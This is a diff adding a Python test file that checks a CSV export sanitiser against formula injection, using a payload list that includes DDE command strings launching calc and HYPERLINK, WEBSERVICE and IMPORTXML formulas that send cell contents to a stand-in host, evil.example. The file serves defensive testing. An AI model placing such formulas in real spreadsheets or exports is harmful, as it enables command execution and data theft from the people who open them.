@@ -1,0 +1,103 @@
+"""No cell of a CSV export can be taken for a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+
+from intake.exports.csv_file import harmless
+
+FORMULA_CHARS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−")
+_BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x00", "\x0b")
+_INSIDE = ('"', "'", ",", ";", "|", "\t", "\n", "\r\n", "，", "；", "“", ", ", ";\u200b", '","', '";"')
+
+PAYLOADS = [
+    *(f"{before}{char}1+1" for char in FORMULA_CHARS for before in _BEFORE),
+    *(f"Sam{between}{char}1+1" for char in FORMULA_CHARS for between in _INSIDE),
+    *("\tSam", "\rSam", "\nSam", "\r\nSam", "\t", "=", "@"),
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!D2",
+    '=HYPERLINK("http://evil.example?x="&A1,"open")',
+    '=WEBSERVICE("http://evil.example/"&A1)',
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    'Sam","=1+1',
+    'Sam";=cmd|" /C calc"!A0',
+    "Sam\n=1+1\n+2",
+    "'=1+1",
+    '"=1+1"',
+    "+17325550142",
+    "-",
+    "%0A=1+1\n@x",
+]
+
+
+def _starts(text: str) -> list[str]:
+    """Return the parts of a cell that a program could take for separate cells."""
+    return re.split(r"[\"',;|\t\r\n\x0b\x0c，；“”]", text)
+
+
+def _bare(text: str) -> str:
+    return re.sub(r"^[\s\x00-\x1f\u200b-\u200f\u202a-\u202e\ufeff]+", "", text)
+
+
+def test_no_cell_starts_like_a_formula() -> None:
+    cells = [harmless(payload) for payload in PAYLOADS]
+
+    assert [cell for cell in cells if _bare(cell).startswith(FORMULA_CHARS)] == []
+    assert [cell for cell in cells if cell.startswith(("\t", "\r", "\n"))] == []
+
+
+def test_no_part_of_a_cell_starts_like_a_formula() -> None:
+    parts = [part for payload in PAYLOADS for part in _unguarded(harmless(payload))]
+
+    assert [part for part in parts if _bare(part).startswith(FORMULA_CHARS)] == []
+
+
+def _unguarded(cell: str) -> list[str]:
+    # An apostrophe that we insert is itself a quote and guards what follows.
+    return _starts(re.sub(f"'(?=[{''.join(map(re.escape, FORMULA_CHARS))}])", "'\u2063", cell))
+
+
+def test_cells_survive_a_round_trip_through_csv() -> None:
+    for payload in PAYLOADS:
+        line = io.StringIO()
+        csv.writer(line, quoting=csv.QUOTE_ALL).writerow([harmless(payload)])
+        (cell,) = next(csv.reader(io.StringIO(line.getvalue(), newline="")))
+        assert cell == harmless(payload)
+
+
+@pytest.mark.parametrize(
+    "plain",
+    [
+        *(
+            "",
+            "Sam",
+            "O'Brien",
+            "Anne-Marie",
+            "sam@example.com",
+            "(732) 555-0142",
+            "2026-11-23T10:00:00-05:00",
+        ),
+        *(
+            "I sleep badly, often",
+            "a + b = c",
+            "Zoë; 3-4 times",
+            "“quoted”",
+            "line one\nline two",
+            "1.5",
+            "True",
+        ),
+    ],
+)
+def test_ordinary_text_is_unchanged(plain: str) -> None:
+    assert harmless(plain) == plain
+
+
+def test_corpus_has_at_least_sixty_payloads() -> None:
+    assert len(set(PAYLOADS)) >= 60
